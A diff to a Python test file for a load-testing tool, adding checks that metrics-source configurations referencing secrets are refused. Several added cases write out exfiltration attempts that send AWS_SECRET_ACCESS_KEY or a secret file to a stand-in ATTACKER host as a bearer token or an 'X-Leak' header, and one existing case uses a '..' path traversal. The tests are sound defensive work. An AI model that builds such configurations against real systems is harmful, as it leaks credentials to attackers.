@@ -16,7 +16,7 @@ import responses
 
 from loadmgr.errors import ClusterError, ValidationFailed
 from loadmgr.locust.client import LocustClient
-from loadmgr.models import ClusterAuth, LocustCluster
+from loadmgr.models import ClusterAuth, LocustCluster, ServerSource
 from loadmgr.models.notifications import Notification
 from loadmgr.secret_refs import (
     SecretRefused,
@@ -42,13 +42,16 @@ STORED_REFERENCES = {
     ("ClusterAuth", "passwordEnv"),
     ("Notification", "webhookEnv"),
     ("Notification", "webhookFile"),
+    ("ServerSource", "bearerTokenEnv"),
+    ("ServerSource", "bearerTokenFile"),
+    ("ServerSource", "headerEnv"),
 }
 
 
 def test_the_table_names_every_reference_field() -> None:
     found = {
         (model.__name__, name)
-        for model in (ClusterAuth, LocustCluster, Notification)
+        for model in (ClusterAuth, LocustCluster, Notification, ServerSource)
         for name in model.model_fields
         if name.endswith(("Env", "File"))
     }
@@ -79,6 +82,12 @@ ADD_REFUSALS = [
       "--login-password-env", "LOADMGR_SECRET_P"), "AWS_SECRET_ACCESS_KEY"),
     (("notify", "add", "evil", "--webhook-env", "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
     (("notify", "add", "evil", "--webhook-file", "{key}"), "{key}"),
+    (("sources", "add", "evil", "--prometheus", ATTACKER, "--bearer-token-env",
+      "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
+    (("sources", "add", "evil", "--prometheus", ATTACKER, "--bearer-token-file", "{key}"),
+     "{key}"),
+    (("sources", "add", "evil", "--prometheus", ATTACKER, "--header-name", "X-Leak",
+      "--header-env", "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
     # `..` climbing out of an allowed directory.
     (("notify", "add", "evil", "--webhook-file", "{home}/secrets/../../private/key"), "'..'"),
 ]  # fmt: skip
@@ -102,6 +111,7 @@ def test_a_reference_this_machine_does_not_allow_is_refused_when_added(
         db = mock_store.client["loadmgr"]
         assert db.locust_clusters.count_documents({}) == 0
         assert db.notifications.count_documents({}) == 0
+        assert db.server_sources.count_documents({}) == 0
 
 
 def test_what_a_machine_allows_is_accepted(
@@ -176,6 +186,23 @@ def test_a_stored_webhook_reference_is_refused_before_it_is_read(
     with pytest.raises(SecretRefused) as caught:
         webhook_url(env, file)
     assert reference in caught.value.message and VALUE not in caught.value.message
+
+
+@pytest.mark.parametrize("field", ["bearerTokenEnv", "bearerTokenFile", "headerEnv"])
+@responses.activate
+def test_a_stored_source_reference_is_refused_before_any_request(
+    machine_secrets: Path, field: str
+) -> None:
+    from loadmgr.errors import SourceError
+    from loadmgr.service.server_metrics.sources import client_for
+
+    reference = str(machine_secrets) if field.endswith("File") else "AWS_SECRET_ACCESS_KEY"
+    extra = {"headerName": "X-Leak"} if field == "headerEnv" else {}
+    source = ServerSource(id="evil", baseUrl=ATTACKER, **{field: reference}, **extra)
+    with pytest.raises(SourceError) as caught:
+        client_for(source).query("up")
+    assert reference in caught.value.message and VALUE not in caught.value.message
+    assert len(responses.calls) == 0
 
 
 def test_another_tenants_cluster_never_gets_this_machines_secret_from_a_tick(
